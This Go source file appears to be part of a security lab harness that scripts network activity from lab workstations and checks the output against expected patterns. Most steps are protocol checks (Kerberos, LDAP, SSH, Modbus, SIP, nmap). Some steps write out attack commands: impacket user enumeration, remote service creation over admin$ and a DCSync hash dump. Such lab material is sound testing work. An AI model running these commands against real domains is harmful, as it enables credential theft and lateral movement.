package main

// extra is what the tests need and the demo does not show.
func (l *lab) extra() {
	actors(func() {
		const h = "dev-ws-07"
		krb := "export KRB5_CONFIG=$S/srv-web-1/kdc/krb5.conf KRB5CCNAME=/run/lab/tmp/cc-lab\n"
		l.do(
			step{h, "mit-kinit-failed", krb + "echo wrong | kinit m.ortiz", "(?i)incorrect|preauth"},
			step{h, "mit-kinit-unknown", krb + "kinit nobody </dev/null", "not found in Kerberos database"},
			step{h, "mit-kinit", krb + "echo '" + lindPassword + "' | kinit j.lind && echo '" + ortizPassword + "' | kinit m.ortiz && kvno HTTP/intranet.corp.example && kvno nfs/absent; klist", "HTTP/intranet.corp.example@LAB.EXAMPLE"},
			step{h, "ldap-simple", "ldapsearch -x -LLL -H ldap://10.20.0.40 -D 'cn=Maria Ortiz,dc=lab,dc=example' -w '" + ortizPassword + "' -b dc=lab,dc=example '(&(objectClass=person)(|(uid=m.ortiz)(uid=j*)))' mail; ldapwhoami -x -H ldap://10.20.0.40 -D 'cn=Maria Ortiz,dc=lab,dc=example' -w wrong", "(?s)m.ortiz@example.org.*Invalid credentials"},
			step{h, "ldap-starttls", "LDAPTLS_REQCERT=never ldapsearch -ZZ -x -LLL -H ldap://10.20.0.40 -D 'cn=Maria Ortiz,dc=lab,dc=example' -w '" + ortizPassword + "' -b dc=lab,dc=example uid=m.ortiz mail", "m.ortiz@example.org"},
			step{h, "ssh-443", typed("ssh -p 443 "+sshOptions+" j.lind@cdn-sync.example", lindPassword, shellPrompt,
				"pwd", "cat /etc/hostname", "top -b -n 1 | head -12", "ls -l /", "exit"), "(?s)load average.*logout"},
			step{h, "ssh-key-only", "ssh " + sshOptions + " -o PreferredAuthentications=publickey j.lind@10.20.0.32 true", "Permission denied"},
			step{h, "fragments", "ping -qc 2 -s 3000 10.20.0.1", "2 received"},
			step{h, "refused", "curl -sS http://10.20.0.1:8080/; curl -sS --max-time 2 http://203.0.113.66/; dig +time=1 +tries=1 @10.20.0.1 www.example.com", "refused"},
		)
	}, func() {
		const h = "adm-ws-01"
		l.do(
			step{h, "rsync", "RSYNC_PASSWORD=" + backupPassword + " rsync -rv rsync://backup@10.20.0.40/drop /run/lab/tmp/drop", "index.html"},
			step{h, "socks", "curl -sS --socks5-hostname relay:" + backupPassword + "@192.0.2.77:1080 http://www.example.com/; curl -sS --socks5 relay:wrong@192.0.2.77:1080 http://www.example.com/ || true", "Example shop"},
			step{h, "coap", "coap-client-notls -m get coap://10.20.9.11/.well-known/core; coap-client-notls -m get coap://10.20.9.11/time; coap-client-notls -m put -e 1 coap://10.20.9.11/absent", "(?s)time.*4\\.0"},
			step{h, "modbus", `/usr/bin/python3 - <<-'END'
				from pymodbus.client import ModbusTcpClient
				c = ModbusTcpClient("10.20.9.11", port=502)
				c.connect()
				print(c.read_holding_registers(3, 5).registers)
				print(c.write_register(7, 4711))
				print(c.read_coils(0, 8))
				print(c.read_holding_registers(4000, 5))
				c.close()
			END`, "(?s)104.*Exception"},
			step{h, "sip", "sipp -sn uac 10.20.0.40:5060 -i 10.20.2.5 -m 2 -r 1 -d 1500 -timeout 20 -nostdin 2>&1 | tail -30", "Successful call.*2"},
			step{h, "impacket-samr", "/usr/bin/python3 /usr/share/doc/python3-impacket/examples/samrdump.py 'corp.example/a.kowal:" + kowalPassword + "@10.20.0.10'", "m.ortiz"},
			step{h, "remote-service", `smbclient '//10.20.0.20/admin$' -U 'CORP\a.kowal%` + kowalPassword + `' -c 'put /root/svc.exe svc.exe; ls'
				net rpc service list -S 10.20.0.20 -U 'CORP\a.kowal%` + kowalPassword + `'
				net rpc service create helper 'Helper service' 'C:\svc.exe' -S 10.20.0.20 -U 'CORP\a.kowal%` + kowalPassword + `'`, "(?s)putting file.*(ACCESS_DENIED|Successfully)"},
			step{h, "dcsync", "/usr/bin/python3 /usr/share/doc/python3-impacket/examples/secretsdump.py -just-dc-user m.ortiz 'corp.example/a.kowal:" + kowalPassword + "@10.20.0.10'", "DRSUAPI method"},
			step{h, "ldap-clear-ad", "ldapsearch -x -LLL -H ldap://10.20.0.10 -D j.lind@corp.example -w '" + lindPassword + "' -b DC=corp,DC=example '(objectClass=user)' sAMAccountName", "m.ortiz"},
			step{h, "nmap-versions", "nmap -n -Pn -sV --version-intensity 2 -p 21,22,80 10.20.0.40; nmap -n -sU -Pn -p 53,123,161 10.20.0.2", "vsftpd"},
		)
	})
}
